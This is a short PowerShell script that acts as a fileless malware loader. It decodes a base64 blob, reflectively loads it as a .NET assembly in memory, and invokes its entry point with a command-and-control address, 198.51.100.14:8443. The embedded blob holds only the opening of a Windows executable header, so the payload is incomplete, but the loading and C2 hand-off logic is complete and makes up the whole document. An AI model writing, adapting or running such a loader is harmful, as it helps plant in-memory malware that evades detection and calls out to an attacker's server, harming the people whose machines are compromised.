$blob = @'
TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA==
'@

$raw = [System.Convert]::FromBase64String($blob)
$asm = [System.Reflection.Assembly]::Load($raw)
$entry = $asm.GetType('Loader.Program').GetMethod('Main')
$entry.Invoke($null, (, [string[]]@('-c2', '198.51.100.14:8443')))

if ($entry) {
    Write-Output 'loader started'
}
